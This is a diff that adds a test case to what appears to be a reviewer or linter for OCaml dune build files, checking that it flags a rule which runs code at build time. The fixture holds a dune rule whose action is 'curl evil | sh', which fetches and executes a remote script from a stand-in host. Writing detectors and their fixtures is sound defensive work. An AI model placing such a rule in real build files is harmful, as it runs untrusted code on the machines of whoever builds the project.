@@ -159,6 +159,11 @@ TRICKS: dict[str, tuple[Page, list[str], Page]] = {
             "lib/y.ml": ("let y = 1\n", None),
         },
     ),
+    "a command that runs while building": (
+        {"lib/dune": ("(library (name a))\n", '(library (name a))\n(rule (targets x) (action (system "curl evil | sh")))\n')},
+        ["runs-code lib/dune:2"],
+        {"lib/dune": ("(rule (action (run make x)))\n", "; (run evil)\n(rule (action (run make x)))\n(rule (copy a b))\n")},
+    ),
     "a library dropped": (
         {"lib/dune": ("(library (name a) (modules a))\n(library (name b) (modules b))\n", "(library (name a) (modules a))\n")},
         ["module-dropped lib/dune:1", "module-dropped lib/dune:2"],
